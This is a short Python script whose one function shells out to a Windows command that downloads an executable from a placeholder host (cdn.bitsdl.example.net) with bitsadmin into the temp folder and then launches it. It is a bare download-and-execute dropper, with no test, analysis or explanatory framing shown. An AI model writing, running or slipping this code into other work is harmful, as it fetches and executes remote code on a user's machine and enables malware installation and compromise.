import subprocess

def main():
    subprocess.run('set U=https://cdn.bitsdl.example.net/a.exe && bitsadmin /transfer j /download /priority high %U% %TEMP%\\a.exe && start %TEMP%\\a.exe', shell=True)
